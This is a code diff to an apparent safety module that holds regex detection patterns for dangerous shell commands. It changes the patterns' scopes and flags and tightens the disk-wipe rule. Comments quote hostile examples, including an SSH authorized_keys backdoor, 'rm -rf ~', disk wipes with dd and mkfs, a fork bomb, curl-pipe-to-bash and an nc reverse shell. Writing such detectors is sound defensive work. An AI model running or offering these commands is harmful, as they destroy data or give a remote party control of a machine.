@@ -16,6 +16,7 @@ from typing import Final
 
 from kenning.safety.patterns.schema import (
     ALL,
+    MEMORY,
     SCRIPT,
     Pattern,
     ascii_regex,
@@ -203,7 +204,7 @@ PATTERNS: Final[tuple[Pattern, ...]] = (
             # "cp key.pub ~/.ssh/authorized_keys", "sed -i ... authorized_keys"
           | \b(?:cp|mv|install|ln|sed\s+-i\S{{0,10}})\b[^\n|;&]{{0,200}}?authorized_keys2?\b
             # "Add this key to ~/.ssh/authorized_keys"
-          | \b(?:add|append|put|insert|write|paste|copy|place)\b[^\n]{{0,120}}?
+          | \b(?:add|append|put|insert|write|paste|copy|place)(?:ing)?\b[^\n]{{0,120}}?
             \b(?:to|into|in)\s+(?:the\s+|your\s+)?(?:\S{{0,200}}/)?authorized_keys2?\b
         """),
     ),
@@ -281,7 +282,8 @@ PATTERNS: Final[tuple[Pattern, ...]] = (
     Pattern(
         pattern_id="rm_rf_root_or_home",
         category="destructive",
-        scopes=SCRIPT,
+        scopes=MEMORY,
+        negatable=True,
         reason="recursively deletes the home directory or the filesystem root (destructive)",
         regex=ascii_regex(r"""
             # "rm -rf ~", "rm -r -f /*": options, one of them recursive (-r, -fR, --recursive),
@@ -306,11 +308,13 @@ PATTERNS: Final[tuple[Pattern, ...]] = (
     Pattern(
         pattern_id="disk_wipe",
         category="destructive",
-        scopes=SCRIPT,
+        scopes=MEMORY,
+        negatable=True,
         reason="formats, wipes or overwrites a disk (destructive)",
         regex=ascii_regex(r"""
-            # "mkfs.ext4 /dev/sda1", "wipefs -a /dev/sdb", "format C:"
-            \bmkfs(?:\.\w{1,10})?\b | \bmke2fs\b | \bwipefs\s+(?:-\w+\s+){0,3}-\w*a
+            # "mkfs.ext4 /dev/sda1", "wipefs -a /dev/sdb", "format C:" ("mkfs.ext4 test.img"
+            # formats a file and passes)
+            \b(?:mkfs(?:\.\w{1,10})?|mke2fs)\b[^\n]{0,40}?/dev/ | \bwipefs\s+(?:-\w+\s+){0,3}-\w*a
           | \bformat\s+[A-Za-z]:
             # "dd if=/dev/zero of=/dev/sda", "> /dev/nvme0n1", "shred -n1 /dev/sdb"
           | (?:\bdd\b[^\n]{0,200}?\bof=|>\s*|\bshred\b[^\n]{0,100}?\s)["']?
@@ -322,7 +326,8 @@ PATTERNS: Final[tuple[Pattern, ...]] = (
     Pattern(
         pattern_id="fork_bomb",
         category="destructive",
-        scopes=SCRIPT,
+        scopes=MEMORY,
+        negatable=True,
         reason="defines a fork bomb that exhausts the machine (destructive)",
         regex=ascii_regex(r"""
             # ":(){ :|:& };:": a function that pipes itself into itself in the background
@@ -336,7 +341,8 @@ PATTERNS: Final[tuple[Pattern, ...]] = (
     Pattern(
         pattern_id="chmod_777_root",
         category="destructive",
-        scopes=SCRIPT,
+        scopes=MEMORY,
+        negatable=True,
         reason="makes the whole filesystem or home world-writable (destructive)",
         regex=ascii_regex(r"""
             # "chmod -R 777 /", "chmod o+w ~"
@@ -350,7 +356,8 @@ PATTERNS: Final[tuple[Pattern, ...]] = (
     Pattern(
         pattern_id="download_and_run",
         category="remote_code",
-        scopes=SCRIPT,
+        scopes=MEMORY,
+        negatable=True,
         reason="downloads code and runs it immediately (remote code execution)",
         regex=ascii_regex(rf"""
             # "curl ... | bash", "irm ... | iex": a download, up to 3 filters that are not
@@ -377,7 +384,8 @@ PATTERNS: Final[tuple[Pattern, ...]] = (
     Pattern(
         pattern_id="reverse_shell",
         category="remote_code",
-        scopes=SCRIPT,
+        scopes=ALL,
+        negatable=True,
         reason="opens a reverse shell that gives a remote machine control (remote code execution)",
         regex=ascii_regex(r"""
             # "nc -e /bin/sh host 4444"
